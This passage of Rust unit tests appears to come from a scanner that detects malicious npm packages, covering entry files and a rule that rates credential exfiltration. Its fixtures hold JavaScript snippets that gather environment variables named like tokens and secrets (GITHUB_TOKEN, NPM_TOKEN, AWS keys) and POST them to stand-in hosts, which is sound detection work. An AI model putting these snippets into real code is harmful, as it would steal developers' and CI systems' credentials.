        let p = pkg(&[
            (
                "package.json",
                r#"{"name":"x","version":"1.0.0","main":"index.js"}"#,
            ),
            ("index.js", src),
        ]);
        let f = p
            .files
            .iter()
            .find(|f| f.path == "index.js")
            .expect("index.js is in the package");
        for (needle, load) in [("a()", true), ("b()", true), ("c()", false)] {
            let off = src.find(needle).expect("needle is in the source") as u32;
            assert_eq!(p.runs_on_load(f, off), load, "{needle}");
        }
    }

    #[test]
    fn the_react_native_field_names_an_entry_file() {
        let p = pkg(&[
            (
                "package.json",
                r#"{"name":"x","version":"1.0.0","main":"lib/node.js","react-native":"lib/native.js"}"#,
            ),
            ("lib/node.js", "module.exports = 1"),
            ("lib/native.js", "module.exports = 2"),
        ]);
        let f = p
            .files
            .iter()
            .find(|f| f.path == "lib/native.js")
            .expect("native file is in the package");
        assert!(p.is_entry_file(f));
    }

    fn severities(case: &str) -> Vec<crate::model::Severity> {
        crate::rules::testing::run(&super::RULE, "index.js", case)
            .into_iter()
            .map(|h| h.severity)
            .collect()
    }

    #[test]
    fn secret_names_picked_out_of_the_environment_and_sent_are_critical() {
        let env = "function ci() { const env = process.env; const got = {}; for (const k of Object.keys(env)) { if (/TOKEN|SECRET|PASSWORD|_KEY/i.test(k)) got[k] = env[k] } const r = https.request({ host: 'ci-stats.example.org', method: 'POST' }); r.end(JSON.stringify(got)) }\nci()";
        assert_eq!(severities(env), vec![crate::model::Severity::Critical]);
        // The same pattern over an object the caller passes is one weak source: high.
        // Three token names, one of them the value of an Authorization header: two sent.
        let release = "async function rel() { const t = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN; write(t); await fetch('https://api.github.example/repos/o/r/releases', { method: 'POST', headers: { authorization: `token ${process.env.GITHUB_TOKEN}` }, body: '{}' }) }";
        assert_eq!(severities(release), vec![]);
        let harvest = "async function rel() { await fetch('https://c.example.net/r', { method: 'POST', headers: { authorization: `token ${process.env.GITHUB_TOKEN}` }, body: JSON.stringify([process.env.NPM_TOKEN, process.env.NODE_AUTH_TOKEN, process.env.AWS_SECRET_ACCESS_KEY]) }) }";
        assert_eq!(severities(harvest), vec![crate::model::Severity::Critical]);
        let obj = "function ci(o) { const got = {}; for (const k of Object.keys(o)) { if (/TOKEN|SECRET|PASSWORD|_KEY/i.test(k)) got[k] = o[k] } const r = https.request({ host: 'ci-stats.example.org', method: 'POST' }); r.end(JSON.stringify(got)) }\nci()";
        assert_eq!(severities(obj), vec![crate::model::Severity::High]);
        // A named pattern over an alias of the environment, as a filter: critical.
        let alias = "const SEC = /token|secret|auth/i;\nconst e = process.env;\nfunction grab() { const keys = Object.keys(e).filter((k) => SEC.test(k)); fetch('https://c.example.net/x', { method: 'POST', body: JSON.stringify(keys.map((k) => e[k])) }) }\ngrab()";
        assert_eq!(severities(alias), vec![crate::model::Severity::Critical]);
        // Masking matches before a fixed-host send is a redaction: not a strong source.
        let mask = "const SEC = /token|secret|auth/i;\nfunction report() { const out = {}; for (const k of Object.keys(process.env)) out[k] = SEC.test(k) ? '[redacted]' : process.env[k]; fetch('https://c.example.net/x', { method: 'POST', body: JSON.stringify(out) }) }\nreport()";
        assert!(!severities(mask).contains(&crate::model::Severity::Critical));
    }
}
